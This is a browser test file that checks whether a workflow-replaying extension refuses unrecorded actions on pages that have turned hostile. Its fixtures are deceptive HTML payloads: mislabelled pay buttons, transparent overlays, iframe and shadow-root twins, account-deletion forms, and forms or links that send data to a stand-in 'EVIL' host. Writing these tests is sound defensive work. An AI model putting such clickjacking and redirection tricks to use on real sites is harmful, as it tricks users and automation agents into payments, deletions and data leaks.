import { afterAll, beforeAll, expect } from 'vitest';
import type { KnownTarget } from '../../utils/page/api.ts';
import type { WorkflowStep } from '../../utils/contracts/workflow.ts';
import type { Page } from '../helpers/browsers/index.ts';
import { describeInBrowsers } from '../helpers/in-browsers.ts';
import { startRecordingSite, type RecordingSite } from '../helpers/sites/recording-site.ts';
import { itWide } from '../helpers/wide.ts';
import { runWorkflow } from '../helpers/workflows.ts';

/** What the run of a workflow comes to: it is over, or waits for the user at a step, or before something happens. */
type Result = 'done' | 'failed' | 'step' | 'confirmation';

interface Attack {
  /** How the page has changed since the workflow was recorded. */
  now: string;
  steps?: Partial<WorkflowStep>[];
  /** What may come of it; `right`: only what was recorded happened. */
  may: Result[];
}

const next: KnownTarget = { role: 'button', name: 'Continue', heading: 'Address' };
const press = [{ tool: 'click', args: {}, target: next }];
const pay = `fetch('/pay', { method: 'POST', body: 'amount=99' })`;
const right = `fetch('/right')`;
const stops: Result[] = ['step'];
const asks: Result[] = ['confirmation', 'step'];
const bill = '<label>Card number <input name=card value="4111111111111111" autocomplete=cc-number></label>';
const name: KnownTarget = { role: 'textbox', name: 'Name', field: 'name' };
const heading = '<h1>Shop</h1><h2>Address</h2>';

/** Every one of them wants something to happen that was never recorded. `EVIL` is another site. */
const attacks: Record<string, Attack> = {
  'a form that pays under the old name': {
    now: `<form method=post action=/pay>${bill}<button>Continue</button></form>`,
    may: asks,
  },
  'a script that pays under the old name': { now: `<button onclick="${pay}">Continue</button>`, may: asks },
  'a button that reads Pay and is called Continue': {
    now: `<button aria-label=Continue onclick="${pay}">Pay 99 EUR</button>`,
    may: asks,
  },
  'a button that is called after a hidden text': {
    now: `<span id=l hidden>Continue</span><button aria-labelledby=l onclick="${pay}">Pay 99 EUR</button>`,
    may: asks,
  },
  'a box with the role and the name': {
    now: `<div role=button tabindex=0 aria-label=Continue onclick="${pay}">Pay</div>`,
    may: asks,
  },
  'two buttons of the name': {
    now: `<button onclick="${right}">Continue</button><button onclick="${pay}">Continue</button>`,
    may: stops,
  },
  'a transparent twin': {
    now: `<button style="opacity:0" onclick="${pay}">Continue</button><button onclick="${right}">Continue</button>`,
    may: ['done'],
  },
  'a twin outside of the page': {
    now: `<button style="position:absolute;left:-9000px" onclick="${pay}">Continue</button><button onclick="${right}">Continue</button>`,
    may: ['done'],
  },
  'only a transparent button': { now: `<button style="opacity:0" onclick="${pay}">Continue</button>`, may: stops },
  'something transparent above the button': {
    now: `<button onclick="${right}">Continue</button><div style="position:fixed;inset:0;opacity:0" onclick="${pay}"></div>`,
    may: ['step', 'confirmation', 'failed'],
  },
  'a button of the name in a closed shadow root': {
    now: `<div id=h></div><script>document.getElementById('h').attachShadow({ mode: 'closed' }).innerHTML = '<button>Continue</button>';</script>
      <script>addEventListener('click', (event) => { if (event.target.id === 'h') ${pay}; }, true)</script>`,
    may: asks,
  },
  'a twin in a frame of the page': {
    now: `<button onclick="${right}">Continue</button><iframe srcdoc="<button onclick=&quot;parent.${pay}&quot;>Continue</button>"></iframe>`,
    may: ['step', 'done'],
  },
  'the button only in a frame of the page': {
    now: `<iframe srcdoc="<h2>Address</h2><button onclick=&quot;parent.fetch('/take?all=1')&quot;>Continue</button>"></iframe>`,
    may: stops,
  },
  'the button only in a frame with an address of the site': { now: '<iframe src="/framed"></iframe>', may: stops },
  'the button only in a frame of another site': { now: '<iframe src="EVIL/frame"></iframe>', may: stops },
  'the button only in a sandboxed frame': {
    now: `<iframe sandbox=allow-scripts srcdoc="<button onclick=&quot;fetch('EVIL/pay', { method: 'POST', body: 'x', mode: 'no-cors' })&quot;>Continue</button>"></iframe>`,
    may: asks,
  },
  'a form that goes to another site': {
    now: '<form method=post action="EVIL/take"><input name=name value=Ada><button>Continue</button></form>',
    may: asks,
  },
  'a button with an address of its own': {
    now: '<form method=get action=/right><input name=name value=Ada><button formaction="EVIL/take" formmethod=post>Continue</button></form>',
    may: asks,
  },
  'a button of a form that stands elsewhere': {
    now: `<button form=f>Continue</button><form id=f method=post action=/pay>${bill}</form>`,
    may: asks,
  },
  'a form that deletes': {
    now: '<form method=post action=/delete-account><input type=hidden name=_method value=delete><input type=hidden name=account value=ada><button>Continue</button></form>',
    may: asks,
  },
  'a button that becomes another one under the pointer': {
    now: `<button onpointerover="this.outerHTML = '<button onclick=&quot;fetch(\\'/pay\\', { method: \\'POST\\' })&quot;>Pay</button>'">Continue</button>`,
    may: ['step', 'confirmation', 'failed'],
  },
  'a link that deletes': {
    now: '<a href="/delete-account?id=7">Cart</a>',
    steps: [{ tool: 'click', args: {}, target: { role: 'link', name: 'Cart', href: '/cart' } }],
    may: asks,
  },
  'a link that runs a script': {
    now: `<a href="javascript:void ${pay.replaceAll("'", '&apos;')}">Cart</a>`,
    steps: [{ tool: 'click', args: {}, target: { role: 'link', name: 'Cart', href: '/cart' } }],
    may: [...asks, 'failed'],
  },
  'a link to another site that carries something': {
    now: '<a href="EVIL/take?name=Ada">Cart</a>',
    steps: [{ tool: 'click', args: {}, target: { role: 'link', name: 'Cart', href: '/cart' } }],
    may: asks,
  },
  'a field whose form goes to another site with Enter': {
    now: '<form action="EVIL/take"><label>Name <input name=name></label></form>',
    steps: [{ tool: 'type', args: { text: 'Ada', submit: true }, target: name }],
    may: asks,
  },
  'a field that pays with Enter': {
    now: `<form method=post action=/pay>${bill}<label>Name <input name=name></label><button>Pay</button></form>`,
    steps: [
      { tool: 'type', args: { text: 'Ada' }, target: name },
      { tool: 'press_key', args: { keys: 'Enter' }, target: name },
    ],
    may: asks,
  },
  'a script that deletes under the old name': {
    now: `<button onclick="fetch('/items/7', { method: 'DELETE' })">Continue</button>`,
    may: asks,
  },
  'a choice that pays': {
    now: `<label>Size <select onchange="${pay}"><option>Small<option>Large</select></label>`,
    steps: [{ tool: 'select', args: { options: ['Large'] }, target: { role: 'combobox', name: 'Size' } }],
    may: asks,
  },
  'a box that pays': {
    now: `<label><input type=checkbox onchange="${pay}">Gift wrap</label>`,
    steps: [{ tool: 'check', args: { checked: true }, target: { role: 'checkbox', name: 'Gift wrap' } }],
    may: asks,
  },
  'something that pays when it is pointed at': {
    now: `<button onmouseenter="${pay}">Products</button>`,
    steps: [{ tool: 'hover', args: {}, target: { role: 'button', name: 'Products' } }],
    may: asks,
  },
  'a place that deletes what is dropped on it': {
    now: `<ul><li draggable=true>Milk</li></ul><section aria-label=Done style="height:60px" ondragover="event.preventDefault()" ondrop="fetch('/delete', { method: 'POST', body: 'id=7' })"><h3>Done</h3></section>`,
    steps: [
      {
        tool: 'drag',
        args: {},
        target: { role: 'listitem', name: 'Milk' },
        to: { role: 'region', name: 'Done' },
      },
    ],
    may: asks,
  },
};

/** Different in the first letters. */
const nameOf = (at: number): string => `q${String(at).padStart(2, '0')}z`;

describeInBrowsers('a workflow on a page that has become hostile', (browser) => {
  let site: RecordingSite;
  let evil: RecordingSite;
  let panel: Page;
  let page: Page;
  beforeAll(async () => {
    [site, evil] = [await startRecordingSite(), await startRecordingSite()];
    evil.page('/frame', `<button onclick="fetch('/pay', { method: 'POST' })">Continue</button>`);
    site.page('/framed', `<h2>Address</h2><button onclick="fetch('/take?all=1')">Continue</button>`);
    const elsewhere = evil.url.replace('127.0.0.1', 'localhost');
    const workflows = Object.values(attacks).map(({ now, steps = press }, at) => {
      const url = site.page(`/p${at}`, `<title>Shop</title>${heading}${now.replaceAll('EVIL', elsewhere)}`);
      const kept = steps.map((step, number) => ({ tool: 'click', args: {}, ...step, id: `s${number}`, page: url }));
      return { id: `w${at}`, name: nameOf(at), start: url, params: [], steps: kept, savedAt: 1 };
    });
    await browser().inExtension(async (stored: unknown) => {
      await chrome.storage.local.set({ workflows: stored });
      return true;
    }, workflows);
  });
  afterAll(async () => {
    await site.close();
    await evil.close();
  });

  itWide.each(Object.entries(attacks))('does nothing that was not recorded: %s', async (attack, { may }) => {
    const at = Object.keys(attacks).indexOf(attack);
    page = await browser().newPage(`${site.url}/p${at}`);
    panel = await browser().openPanel(page);
    site.requests.length = 0;
    evil.requests.length = 0;
    await runWorkflow(panel, nameOf(at), {});
    const result = await panel.waitFor(() => {
      const waiting = document.querySelector<HTMLElement>('[role=log] [data-status=waiting]');
      const outcome = document.querySelector<HTMLElement>('[role=log] [data-kind=outcome]');
      return waiting?.dataset.kind ?? outcome?.dataset.status;
    });
    expect({
      result,
      acts: [...site.requests, ...evil.requests].filter((one) => /POST|take|pay|delete/.test(one)),
    }).toEqual({
      result: expect.stringMatching(`^(${may.join('|')})$`) as string,
      acts: [],
    });
    if (may.includes('done') && result === 'done') await expect.poll(() => site.requests).toContain('GET /right');
    await page.close();
  });
});
